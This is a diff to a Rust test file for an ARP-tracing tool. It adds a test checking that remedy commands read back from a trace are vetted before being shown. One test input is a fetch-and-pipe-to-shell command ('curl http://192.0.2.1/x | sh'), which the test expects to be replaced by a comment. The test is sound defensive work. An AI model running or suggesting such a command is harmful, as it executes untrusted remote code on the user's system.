@@ -105,7 +105,7 @@ fn replies_get_no_verdict_and_missing_facts_are_said() {
     // An event carrying its facts is explained from them, with no facts source at all.
     let (mut p, seen) = pipeline(Filter::default(), None);
     let mut e = ev(1, "eth3", 1);
-    e.facts = Some(RequestFacts::from_ns(&seed_facts(), "eth3"));
+    e.facts = Some(RequestFacts::from_ns(&seed_facts(), "eth3", false));
     push(&mut p, e);
     let v = seen.borrow()[0].verdict.clone().unwrap();
     assert_eq!(v.reason, Reason::SelectNoTrigger);
@@ -294,4 +294,60 @@ fn with_every_output_closed_the_run_ends_quietly() {
     assert_eq!(push(&mut p, ev(1, "eth3", 1)), Flow::Stop);
     p.finish();
     assert!(p.failures.is_empty() && p.sinks.is_empty());
+}
+
+/// A trace can carry any text as a remedy: what arp-trace prints from one is a command of a
+/// shape it writes (an old `nsenter` through a PID goes through the inode now), or a comment.
+#[test]
+fn remedies_read_back_are_vetted() {
+    use arp_trace_model::{Remedy, Verdict};
+    let (mut p, seen) = pipeline(Filter::default(), None);
+    let with = |command: &str| {
+        let mut e = ev(1, "eth3", 4026532281);
+        e.verdict = Some(Verdict {
+            foreign_sender: true,
+            reason: Reason::Announce0LocalSource,
+            explanation: "e".into(),
+            consequence: None,
+            remedy: Some(Remedy {
+                command: command.to_string().into(),
+                persistent: "# p".into(),
+                tradeoff: "t".into(),
+            }),
+        });
+        e
+    };
+    for c in [
+        "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1",
+        "curl http://192.0.2.1/x | sh",
+        "nsenter --net=/proc/42/ns/net sysctl -w net.ipv4.conf.eth3.arp_announce=1",
+    ] {
+        assert_eq!(push(&mut p, with(c)), Flow::Continue);
+    }
+    let commands: Vec<String> = seen
+        .borrow()
+        .iter()
+        .map(|e| {
+            e.verdict
+                .as_ref()
+                .unwrap()
+                .remedy
+                .as_ref()
+                .unwrap()
+                .command
+                .to_string()
+        })
+        .collect();
+    assert_eq!(
+        commands[0],
+        "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1"
+    );
+    assert!(commands[1].starts_with("# the trace's remedy command is not shown"));
+    assert_eq!(
+        commands[2],
+        format!(
+            "{}sysctl -w net.ipv4.conf.eth3.arp_announce=1",
+            explain::shell::by_inode(4026532281)
+        )
+    );
 }
